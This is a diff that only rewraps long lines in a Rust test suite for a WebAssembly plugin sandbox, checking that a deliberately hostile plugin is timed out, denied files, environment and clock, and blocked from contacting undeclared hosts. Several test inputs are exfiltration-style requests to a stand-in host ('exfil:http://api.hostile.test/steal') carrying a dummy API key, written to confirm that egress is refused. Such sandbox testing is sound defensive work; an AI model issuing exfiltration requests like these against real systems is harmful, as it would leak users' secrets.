@@ -26,7 +26,9 @@ fn runtime() -> Runtime {
 }
 
 fn hostile(runtime: &Runtime) -> Plugin {
-    runtime.load(&hostile_wasm()).expect("the hostile plugin loads")
+    runtime
+        .load(&hostile_wasm())
+        .expect("the hostile plugin loads")
 }
 
 fn request(model: &str) -> ChatRequest {
@@ -51,7 +53,9 @@ fn probe(plugin: &Plugin, model: &str) -> String {
 
 /// A loopback listener that counts the connections it accepts.
 async fn counting_listener() -> (std::net::SocketAddr, Arc<AtomicUsize>) {
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+        .await
+        .expect("bind");
     let addr = listener.local_addr().expect("addr");
     let count = Arc::new(AtomicUsize::new(0));
     let seen = count.clone();
@@ -71,9 +75,18 @@ fn a_looping_plugin_is_stopped_by_the_deadline() {
     let started = Instant::now();
     let result = instance.build_request(&request("loop"), "https://api.hostile.test");
     let elapsed = started.elapsed();
-    assert!(matches!(result, Err(PluginError::Timeout(d)) if d == DEADLINE), "{result:?}");
-    assert!(elapsed >= DEADLINE.mul_f32(0.9), "stopped too early: {elapsed:?}");
-    assert!(elapsed < DEADLINE * 2, "stopped after {elapsed:?}, more than twice {DEADLINE:?}");
+    assert!(
+        matches!(result, Err(PluginError::Timeout(d)) if d == DEADLINE),
+        "{result:?}"
+    );
+    assert!(
+        elapsed >= DEADLINE.mul_f32(0.9),
+        "stopped too early: {elapsed:?}"
+    );
+    assert!(
+        elapsed < DEADLINE * 2,
+        "stopped after {elapsed:?}, more than twice {DEADLINE:?}"
+    );
 }
 
 #[test]
@@ -121,7 +134,10 @@ fn no_files_environment_or_clock() {
     let dir = probe(&plugin, "list-dir");
     assert!(dir.starts_with("Err("), "list /: {dir}");
     let env = probe(&plugin, "read-env");
-    assert!(env.starts_with("vars=[] home=Err(NotPresent)"), "env: {env}");
+    assert!(
+        env.starts_with("vars=[] home=Err(NotPresent)"),
+        "env: {env}"
+    );
     // Both clocks are frozen at zero: nothing can be timed from inside.
     assert_eq!(probe(&plugin, "clock"), "Ok(0ns)");
 }
@@ -150,13 +166,21 @@ async fn a_request_to_an_undeclared_host_is_refused_before_any_byte() {
             key: ApiKey::new("sk-must-not-leak"),
         };
         let result = egress
-            .call(&plugin, &request(&format!("exfil:http://{addr}/steal")), &target, |_| {})
+            .call(
+                &plugin,
+                &request(&format!("exfil:http://{addr}/steal")),
+                &target,
+                |_| {},
+            )
             .await;
         assert!(
             matches!(&result, Err(CallError::HostNotAllowed { host }) if host == "127.0.0.1"),
             "configured {configured:?}: {result:?}"
         );
-        assert_eq!(result.map(|_| ()).map_err(|e| e.code()), Err("PLUGIN_ERROR"));
+        assert_eq!(
+            result.map(|_| ()).map_err(|e| e.code()),
+            Err("PLUGIN_ERROR")
+        );
     }
     // A declared host over plain http would expose the key: refused too.
     let target = Target {
@@ -164,11 +188,23 @@ async fn a_request_to_an_undeclared_host_is_refused_before_any_byte() {
         key: ApiKey::new("sk-must-not-leak"),
     };
     let result = egress
-        .call(&plugin, &request("exfil:http://api.hostile.test/steal"), &target, |_| {})
+        .call(
+            &plugin,
+            &request("exfil:http://api.hostile.test/steal"),
+            &target,
+            |_| {},
+        )
         .await;
-    assert!(matches!(result, Err(CallError::HostNotAllowed { .. })), "{result:?}");
+    assert!(
+        matches!(result, Err(CallError::HostNotAllowed { .. })),
+        "{result:?}"
+    );
     tokio::time::sleep(Duration::from_millis(50)).await;
-    assert_eq!(connections.load(Ordering::SeqCst), 0, "a byte reached the undeclared host");
+    assert_eq!(
+        connections.load(Ordering::SeqCst),
+        0,
+        "a byte reached the undeclared host"
+    );
 }
 
 #[test]
